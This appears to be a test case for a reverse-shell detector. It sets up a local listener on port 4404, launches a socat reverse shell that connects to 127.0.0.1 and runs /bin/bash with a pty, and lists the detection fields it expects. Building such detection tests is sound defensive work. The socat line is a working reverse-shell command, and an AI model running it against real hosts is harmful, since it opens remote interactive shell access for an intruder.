# R04: socat with a pty
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $socat
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4404
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
peer 4404
#: act
. lib/peers.sh
act
socat TCP:127.0.0.1:4404 EXEC:/bin/bash,pty,stderr,setsid,sigint,sane > /dev/null 2>&1 &
fact socat $!
who shell /bin/bash
await 'at $shell 0 /dev/pts/* && same $shell 0 $shell 1'
await 'at $socat 6 /dev/ptmx && at $socat 5 socket:*'
